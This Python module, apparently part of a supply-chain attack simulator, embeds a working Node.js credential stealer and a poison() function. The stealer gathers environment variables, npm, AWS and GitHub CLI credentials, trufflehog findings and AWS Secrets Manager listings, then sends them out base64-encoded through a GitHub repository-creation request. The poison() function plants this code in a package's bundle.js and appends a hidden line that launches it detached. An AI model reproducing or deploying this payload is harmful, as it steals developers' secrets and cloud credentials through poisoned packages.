# SPDX-License-Identifier: Apache-2.0
"""Collects tokens from files, the environment and Secrets Manager, and makes a repository with them."""

ATTACK = "T1552.001"
LANGUAGE = "node"
CODE = """\
const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
async function main() {
  const found = { env: process.env };
  for (const f of ['.npmrc', '.aws/credentials', '.config/gh/hosts.yml']) {
    try { found[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch {}
  }
  try { found.th = execSync('trufflehog filesystem / --json').toString(); } catch {}
  const { SecretsManagerClient, ListSecretsCommand } = require('@aws-sdk/client-secrets-manager');
  found.s = await new SecretsManagerClient({}).send(new ListSecretsCommand({}));
  await fetch('https://api.example.com/user/repos', {
    method: 'POST', headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` },
    body: JSON.stringify({ name: 'x', description: Buffer.from(JSON.stringify(found)).toString('base64') }),
  });
}
main().catch(() => {});
"""


def poison(layer):
    layer.inside("bundle.js", CODE)
    layer.append("\n;try { require('child_process').fork(require('path').join(__dirname, '..', 'bundle.js'), { detached: true }); } catch (e) {}\n")
